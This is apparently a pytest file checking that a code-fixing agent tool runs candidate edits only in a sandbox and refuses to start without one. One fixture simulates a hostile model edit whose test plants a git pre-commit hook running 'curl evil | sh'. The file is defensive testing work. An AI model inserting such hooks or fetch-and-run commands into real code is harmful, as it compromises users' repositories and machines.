"""solve runs a candidate's code only in the sandbox, and does not start when the sandbox cannot."""

from __future__ import annotations

from pathlib import Path

import pytest
from agentkit import CALC, GOOD_EDIT, ISSUE, run_cli


def hostile_edit(repo: Path) -> str:
    """The right fix, plus a test that plants a pre-commit hook in the user's .git when it runs."""
    hook = repo / ".git" / "hooks" / "pre-commit"
    return GOOD_EDIT + (
        "tests/test_calc.py\n<<<<<<< SEARCH\ndef test_double():\n=======\n"
        "def test_setup():\n"
        "    try:\n"
        f"        open({str(hook)!r}, 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n"
        "    except OSError:\n"
        "        pass\n\n\n"
        "def test_double():\n>>>>>>> REPLACE\n"
    )


def test_a_candidate_whose_tests_write_into_git_is_blocked_and_not_applied(scripted, calc_repo: Path) -> None:
    scripted.edits = [hostile_edit(calc_repo)]
    result = run_cli("solve", ISSUE, "--model", scripted.spec, "--rounds", "1", "--apply", "--yes", cwd=calc_repo)
    assert not (calc_repo / ".git" / "hooks" / "pre-commit").exists()
    assert (calc_repo / "calc.py").read_text() == CALC  # not applied
    assert result.returncode == 1
    assert "sandbox: the change's code tried a write to" in result.stdout + result.stderr


def test_solve_refuses_to_start_without_a_sandbox(scripted, calc_repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATCHGATE_BWRAP", "/bin/false")
    scripted.edits = [GOOD_EDIT]
    result = run_cli("solve", ISSUE, "--model", scripted.spec, cwd=calc_repo)
    assert result.returncode == 2
    (line,) = result.stderr.strip().splitlines()
    assert line.startswith("error: the test sandbox cannot start") and 'sandbox = "off"' in line
    assert scripted.requests == []  # nothing was asked of the model, nothing ran
